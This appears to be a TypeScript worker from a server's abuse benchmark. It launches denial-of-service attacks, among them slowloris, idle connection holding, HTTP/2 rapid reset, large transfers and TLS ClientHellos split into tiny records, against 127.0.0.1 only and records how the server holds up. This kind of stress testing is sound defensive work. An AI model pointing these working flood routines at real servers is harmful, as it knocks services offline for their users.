// One attack of `bench abuse`, run in its own process (`node abuse-attack.js '<json AttackOptions>'`)
// so its CPU does not disturb the normal client's measurements; prints one JSON AttackResult line.
// Every attack sends to 127.0.0.1 only, with a bounded number of connections, for a bounded time.
import { execFile } from 'node:child_process'
import { once } from 'node:events'
import { connect as netConnect, type Socket } from 'node:net'
import { connect as tlsConnect, type TLSSocket } from 'node:tls'
import { rapidReset } from '../test/helpers/h2-rapid-reset.js'
import { captureClientHello, inRecords, paddedHandshake } from './client-hello.js'

export type AttackKind = 'slowloris' | 'idle' | 'rapid-reset' | 'uploads' | 'downloads' | 'tiny-records' | 'hello-silence'

export interface AttackOptions {
  kind: AttackKind
  port: number
  durationMs: number
  /** slowloris, idle: connections held open. */
  connections: number
  /** uploads, downloads: MiB per transfer. */
  transferMiB: number
  /** tiny-records, hello-silence: new connections per second. */
  ratePerSecond: number
}

export interface AttackResult {
  kind: AttackKind
  /** What the attack did and how the server took it, in a few words for the table. */
  summary: string
  /** Attack connections opened, and how many of them the server closed before the attack ended. */
  opened: number
  closedByServer: number
  extra: Record<string, number | string>
}

const sleep = async (ms: number): Promise<void> => await new Promise(resolve => setTimeout(resolve, ms))

async function openTls (port: number, alpn: string[] = ['http/1.1']): Promise<TLSSocket> {
  const socket = tlsConnect({ host: '127.0.0.1', port, servername: 'localhost', ALPNProtocols: alpn, rejectUnauthorized: false })
  socket.on('error', () => {})
  await Promise.race([once(socket, 'secureConnect'), once(socket, 'close').then(() => { throw new Error('closed during the handshake') })])
  // Read (and drop) whatever comes, or the server's close is never seen.
  socket.resume()
  return socket
}

/** Opens `count` connections with `open` (8 at a time) and holds them until `endAt`; counts server closes. */
async function holdConnections (count: number, endAt: number, open: () => Promise<Socket>, whileOpen: (s: Socket) => void = () => {}): Promise<{ opened: number, closed: number }> {
  const sockets: Socket[] = []
  let closed = 0
  let next = 0
  const worker = async (): Promise<void> => {
    while (next < count && Date.now() < endAt) {
      next++
      try {
        const s = await open()
        sockets.push(s)
        s.once('close', () => { if (Date.now() < endAt) closed++ })
        whileOpen(s)
      } catch { /* refused or cut during the handshake: counted as not opened */ }
    }
  }
  await Promise.all(Array.from({ length: 8 }, worker))
  await sleep(Math.max(0, endAt - Date.now()))
  for (const s of sockets) s.destroy()
  return { opened: sockets.length, closed }
}

async function curl (args: string[], maxSeconds: number): Promise<{ ok: boolean, out: string }> {
  return await new Promise(resolve => {
    execFile('sh', ['-c', `curl -sSk --max-time ${maxSeconds} ${args.map(a => `'${a}'`).join(' ')}`], { encoding: 'utf8' }, (err, stdout) => resolve({ ok: err === null, out: stdout.trim() }))
  })
}

export async function attack (o: AttackOptions): Promise<AttackResult> {
  const endAt = Date.now() + o.durationMs
  const base = `https://localhost:${o.port}`
  const resolve = ['--resolve', `localhost:${o.port}:127.0.0.1`]
  switch (o.kind) {
    case 'slowloris': {
      const head = 'GET /slow HTTP/1.1\r\nHost: localhost\r\nX-Slow: ' + 'a'.repeat(4096)
      const timers: NodeJS.Timeout[] = []
      const r = await holdConnections(o.connections, endAt, async () => await openTls(o.port), s => {
        let i = 0
        const send = (): void => { if (!s.destroyed) s.write(head.charAt(i++ % head.length)) }
        send()
        timers.push(setInterval(send, 2000))
      })
      for (const t of timers) clearInterval(t)
      return { kind: o.kind, summary: `${r.opened} conns, 1 header byte / 2 s; ${r.closed} cut by the server`, opened: r.opened, closedByServer: r.closed, extra: {} }
    }
    case 'idle': {
      const r = await holdConnections(o.connections, endAt, async () => await openTls(o.port))
      return { kind: o.kind, summary: `${r.opened} conns idle after the handshake; ${r.closed} cut by the server`, opened: r.opened, closedByServer: r.closed, extra: {} }
    }
    case 'rapid-reset': {
      let sent = 0
      let connections = 0
      let calm = 0
      let otherGoaway = 0
      while (Date.now() < endAt) {
        const r = await rapidReset({ port: o.port, path: '/delay?ms=2000', batch: 100, maxStreams: 50_000, durationMs: endAt - Date.now() }).catch(() => undefined)
        connections++
        if (r === undefined) { await sleep(50); continue }
        sent += r.sent
        if (r.goaway === 11) calm++
        else if (r.goaway !== undefined) otherGoaway++
      }
      return { kind: o.kind, summary: `${sent} HEADERS+RST_STREAM pairs sent on ${connections} conns; GOAWAY: ${calm} ENHANCE_YOUR_CALM, ${otherGoaway} other`, opened: connections, closedByServer: calm + otherGoaway, extra: { sent, calm, otherGoaway } }
    }
    case 'uploads':
    case 'downloads': {
      const bytes = o.transferMiB * 1024 * 1024
      const started = Date.now()
      const maxSeconds = Math.ceil(o.durationMs / 1000) + 120
      const runs = await Promise.all(['--http1.1', '--http2'].map(async proto => {
        const args = o.kind === 'uploads'
          ? [proto, ...resolve, '-T', '-', '-H', 'content-type: application/octet-stream', `${base}/sink`]
          : [proto, ...resolve, '-o', '/dev/null', '-w', '%{size_download}', `${base}/bytes?n=${bytes}`]
        const r = o.kind === 'uploads'
          ? await new Promise<{ ok: boolean, out: string }>(resolve => {
            execFile('sh', ['-c', `head -c ${bytes} /dev/zero | curl -sSk --max-time ${maxSeconds} ${args.map(a => `'${a}'`).join(' ')}`], { encoding: 'utf8' }, (err, stdout) => resolve({ ok: err === null, out: stdout.trim() }))
          })
          : await curl(args, maxSeconds)
        return { ok: r.ok && Number(r.out) === bytes, seconds: (Date.now() - started) / 1000 }
      }))
      const ok = runs.filter(r => r.ok).length
      const mbps = runs.map(r => (o.transferMiB / r.seconds).toFixed(0)).join(' / ')
      return { kind: o.kind, summary: `2 × ${o.transferMiB} MiB (HTTP/1.1 / HTTP/2): ${ok}/2 complete, ${mbps} MiB/s`, opened: 2, closedByServer: 0, extra: { ok } }
    }
    case 'tiny-records':
    case 'hello-silence': {
      const record = await captureClientHello()
      const flight = o.kind === 'tiny-records' ? inRecords(paddedHandshake(record, 16 * 1024), 1) : record
      const sockets: Socket[] = []
      let answered = 0
      let closed = 0
      const interval = 1000 / o.ratePerSecond
      for (let at = Date.now(); Date.now() < endAt; at += interval) {
        const s = netConnect({ host: '127.0.0.1', port: o.port })
        s.on('error', () => {})
        s.once('connect', () => s.write(flight))
        s.once('data', () => { answered++; if (o.kind === 'tiny-records') s.destroy() })
        s.once('close', () => { if (Date.now() < endAt) closed++ })
        sockets.push(s)
        if (o.kind === 'tiny-records') setTimeout(() => s.destroy(), 5000).unref()
        await sleep(Math.max(0, at + interval - Date.now()))
      }
      for (const s of sockets) s.destroy()
      const what = o.kind === 'tiny-records' ? `${(flight.length / 1024).toFixed(0)} KiB hellos in 1-byte records` : 'valid hellos then silence'
      return { kind: o.kind, summary: `${sockets.length} conns at ${o.ratePerSecond}/s, ${what}; ${answered} answered, ${closed} cut by the server`, opened: sockets.length, closedByServer: closed, extra: { answered } }
    }
  }
}

if (process.argv[2] !== undefined && import.meta.url === `file://${process.argv[1]}`) {
  attack(JSON.parse(process.argv[2]) as AttackOptions).then(result => {
    process.stdout.write(`${JSON.stringify(result)}\n`)
    process.exit(0)
  }, (err: unknown) => {
    process.stderr.write(`${err instanceof Error ? (err.stack ?? err.message) : String(err)}\n`)
    process.exit(1)
  })
}
